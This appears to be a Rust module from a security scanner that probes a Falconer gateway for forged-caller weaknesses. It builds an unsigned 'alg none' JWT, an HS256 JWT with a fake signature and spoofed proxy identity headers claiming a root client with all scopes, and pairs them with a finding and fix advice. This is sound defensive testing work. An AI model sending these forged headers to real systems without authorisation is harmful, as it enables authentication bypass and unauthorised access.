use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;

use crate::attacks::{Attack, AttackKind};
use crate::case::{Case, Tries};

pub(crate) const ATTACK: Attack = Attack {
    name: "forged-caller",
    sends: "the route without credentials, with headers that name a caller: Falconer-Caller, Falconer_Caller, and those that other proxies set",
    finding: "The service believes a header that anybody can send who the caller is.",
    advice: "Let only the proxy reach the service, drop the header from clients in every spelling, or check the signature of Falconer-Caller.",
    page: "gateway.md#what-the-service-is-told",
    way: AttackKind::Route(tries),
};

fn tries(case: &Case<'_>) -> Tries {
    case.guarded()?;
    let now = case.now_ms / 1000;
    let statement = serde_json::json!({
        "clientId": "static/falconer/root", "method": case.route.method.as_str(), "path": case.route.resource, "host": case.place.host,
        "scopes": ["*"], "iat": now, "exp": now + 60,
    });
    let encoded = |text: &str| URL_SAFE_NO_PAD.encode(text);
    let unsigned = format!("{}.{}.", encoded(r#"{"alg":"none","typ":"JWT"}"#), encoded(&statement.to_string()));
    let forged =
        format!("{}.{}.{}", encoded(r#"{"alg":"HS256","typ":"JWT"}"#), encoded(&statement.to_string()), encoded(&"\u{1}".repeat(32)));
    let name = |name: &'static str, value: &str| case.unsigned(format!("with {name}")).header(name, value);
    Ok(vec![
        name("falconer-caller", &forged),
        name("falconer-caller", &unsigned),
        name("falconer_caller", &forged),
        name("x-auth-client", "static/falconer/root"),
        name("x-forwarded-user", "static/falconer/root"),
        name("remote-user", "static/falconer/root"),
    ])
}
